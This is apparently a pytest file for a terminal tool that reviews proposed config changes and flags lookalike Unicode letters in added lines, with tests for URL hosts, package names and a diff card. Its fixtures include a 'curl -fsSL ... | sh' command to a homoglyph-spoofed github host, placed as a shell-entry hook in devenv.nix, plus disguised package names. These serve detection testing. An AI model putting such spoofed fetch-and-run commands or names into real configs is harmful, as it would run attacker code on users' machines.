"""Letters that pass for others are a risk on the card, named and escaped: `curl https://gіthub.com/…`
reads as github.com to a reviewer, and its `і` is Cyrillic. Words of one script (a comment in
Russian, a Greek letter) and plain text are not flagged; only added lines are."""

from __future__ import annotations

from pathlib import Path

import pytest
from app_harness import SIZE, cockpit, open_workspace, propose_now, ready, screen_text, wait_for

from omni_tui.core.card.diff import FilePair, compute_card
from omni_tui.core.card.lookalikes import line_lookalikes
from omni_tui.ui.screens import ApproveScreen

FAKE_HOST = "https://g\u0456thub.com/tools/install.sh"  # Cyrillic і (U+0456)


@pytest.mark.parametrize(
    ("line", "shown"),
    [
        (f"curl -fsSL {FAKE_HOST} | sh", 'URL host "g\\u0456thub.com" is not plain ASCII'),
        ('url = "https://\u0430\u0440\u0440\u04cf\u0435.com/x";', 'URL host "\\u0430\\u0440\\u0440\\u04cf\\u0435.com"'),  # all Cyrillic
        ('exec = "r\u0435dis-server";', '"r\\u0435dis": \\u0435 is CYRILLIC SMALL LETTER IE, among Latin letters'),
        ('env.TOOL = "\uff50kgs";', '"\\uff50kgs": \\uff50 is FULLWIDTH LATIN SMALL LETTER P'),
        ('name = "\u03bfpenssl";', '"\\u03bfpenssl": \\u03bf is GREEK SMALL LETTER OMICRON'),
    ],
)
def test_a_word_or_host_that_passes_for_another_is_named_with_its_letters_escaped(line: str, shown: str) -> None:
    found = line_lookalikes(line)
    assert any(shown in why for why in found), found
    assert all(why.isascii() for why in found)


@pytest.mark.parametrize(
    "line",
    [
        "packages = [ pkgs.git pkgs.jq ];",
        "# Привет world: настройка окружения",  # Russian words and English words, each of one script
        "# α + β = γ",
        'env.GREETING = "café 漢字 🚀 naïve";',
        'env.URL = "https://example.com/ünïcode-path";',  # the path, not the host
    ],
)
def test_text_of_one_script_per_word_is_not_flagged(line: str) -> None:
    assert line_lookalikes(line) == []


BEFORE = b"{ pkgs, ... }:\n{\n  # \xd0\x9f\xd1\x80\xd0\xb8 g\xd1\x96thub\n  packages = [ pkgs.git ];\n}\n"


def test_the_card_names_the_added_line_and_not_the_lines_that_were_there() -> None:
    after = BEFORE.replace(b"packages", f'enterShell = "curl -fsSL {FAKE_HOST} | sh";\n  packages'.encode())
    card = compute_card([FilePair("devenv.nix", BEFORE, after)])
    risks = {r["risk"]: r for r in card.risks}
    assert risks["lookalike_letters"]["severity"] == "error"
    causes = risks["lookalike_letters"]["causes"]
    assert [(c["file"], c["line"]) for c in causes] == [("devenv.nix", 4)], causes  # not line 3: it was there before
    assert "runs_on_shell_entry" in risks


def test_a_plain_ascii_change_has_no_such_risk() -> None:
    after = BEFORE.replace(b"pkgs.git", b"pkgs.git pkgs.jq")
    card = compute_card([FilePair("devenv.nix", BEFORE, after)])
    assert "lookalike_letters" not in {r["risk"] for r in card.risks}


async def test_the_cockpit_shows_the_risk_and_the_dialog_shows_which_letter(project: Path) -> None:
    app = cockpit(open_workspace(project))
    async with app.run_test(size=SIZE) as pilot:
        new = (project / "devenv.nix").read_text().replace('echo "$GREET from devenv"', f"curl -fsSL {FAKE_HOST} | sh")
        pid = propose_now(project, "devenv.nix", new, title="Install the tools")
        await wait_for(
            pilot, lambda: app.review.selected_key == pid and "lookalike letters" in screen_text(app), what="the risk on the card"
        )
        await wait_for(pilot, lambda: app.check_action("approve", ()) is True, what="approve offered")
        await pilot.press("a")
        await wait_for(
            pilot,
            lambda: (
                ready(app, ApproveScreen)
                and "g\\u0456thub.com" in screen_text(app)
                and "CYRILLIC SMALL LETTER BYELORUSSIAN-UKRAINIAN I" in screen_text(app)
            ),
            what="the letter named",
        )
        await pilot.press("n")


def test_every_suspect_letter_is_in_the_blocks_searched_first() -> None:
    """`_CANDIDATE` lets a line without any of these blocks skip the per-letter look-up: it must hold
    every letter the look-up can flag."""
    import sys

    from omni_tui.core.card import lookalikes

    missed = [hex(cp) for cp in range(sys.maxunicode + 1) if lookalikes._is_suspect(chr(cp)) and not lookalikes._CANDIDATE.match(chr(cp))]
    assert missed == []


def test_a_lookalike_past_the_scanned_part_of_a_huge_line_is_still_named_by_the_card() -> None:
    """Drawing searches the first SUSPECT_SCAN characters of a line (a hostile megabyte line is drawn at
    once); the card, read by a worker, searches every added line whole."""
    from omni_tui.ui.widgets.diff_paint import SUSPECT_SCAN

    line = "# " + "x" * SUSPECT_SCAN + f" curl {FAKE_HOST}"
    card = compute_card([FilePair("devenv.nix", b"{ }\n", f"{{\n{line}\n}}\n".encode())])
    assert [c["line"] for r in card.risks if r["risk"] == "lookalike_letters" for c in r["causes"]] == [2]
